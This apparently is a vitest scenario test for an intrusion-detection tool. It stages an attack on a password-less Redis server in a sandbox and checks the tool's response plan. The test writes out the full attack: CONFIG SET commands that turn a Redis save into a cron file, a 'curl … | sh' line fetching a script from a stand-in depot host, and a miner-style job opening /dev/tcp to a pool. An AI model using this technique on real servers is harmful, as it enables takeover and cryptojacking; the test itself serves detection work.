/** (c) A Redis without a password is told to save its data as a cron table; the job fetches a miner. */
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { hostAddress, lacksScenario } from '../scenario-host.ts';
import { attacker, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, startScene } from './scene.ts';

const place = '/var/tmp/.cache';

describe.skipIf(lacksScenario(['/usr/bin/redis-server', '/usr/bin/redis-cli', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(c) Redis without a password, cron, miner', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;
  // Through the client's own bind address: the attacker's.
  const redis = async (...args: string[]): Promise<string> => (await scene.host.outside('/usr/bin/socat', ['-t', '2', '-', `TCP:${hostAddress}:6379,bind=${attacker}`], { input: `${args.map((one) => (/[\s"]/.test(one) ? JSON.stringify(one) : one)).join(' ')}\r\nQUIT\r\n` })).stdout;

  beforeAll(async () => {
    scene = await startScene({
      async ready(host) {
        host.plant('/etc/redis/open.conf', 'bind 0.0.0.0\nprotected-mode no\ndir /var/lib/redis\nsave ""\nlogfile /var/log/redis/redis.log\nenable-protected-configs yes\n');
        await host.service('redis', '[Service]\nExecStart=/usr/bin/redis-server /etc/redis/open.conf\n');
        await ordinaryLoad(host);
      },
    });
    copyFileSync('/bin/bash', join(kit, 'shell'));
    writeFileSync(join(kit, 'x.sh'), `mkdir -p ${place}\ncurl -fsS http://${depot}/shell -o ${place}/kworkerd\ncurl -fsS http://${depot}/job -o ${place}/job\nchmod 755 ${place}/kworkerd\nsetsid ${place}/kworkerd ${place}/job > /dev/null 2>&1 &\n`);
    writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
    await serveFiles(scene.host, kit);
    await servePool(scene.host);
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is one incident from the first command to the miner, and ends with its plan', async () => {
    expect(await redis('config', 'set', 'dir', '/etc/cron.d')).toContain('OK');
    expect(await redis('config', 'set', 'dbfilename', 'backup1')).toContain('OK');
    expect(await redis('set', 'x', `\n\n* * * * * root curl -fsS http://${depot}/x.sh | sh\n\n`)).toContain('OK');
    expect(await redis('save')).toContain('OK');
    expect(await redis('config', 'set', 'dir', '/var/lib/redis')).toContain('OK');
    expect(await redis('config', 'set', 'dbfilename', 'dump.rdb')).toContain('OK');
    await prove(scene, {
      entry: { kind: 'service', address: attacker }, level: 'critical', grade: 1,
      steps: ['freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`, 'quarantine-file /etc/cron.d/backup1', `quarantine-file ${place}/kworkerd`, `quarantine-file ${place}/job`, 'kill-tree process'],
      checks: ['cron'], running: /kworkerd/,
    });
  });
});
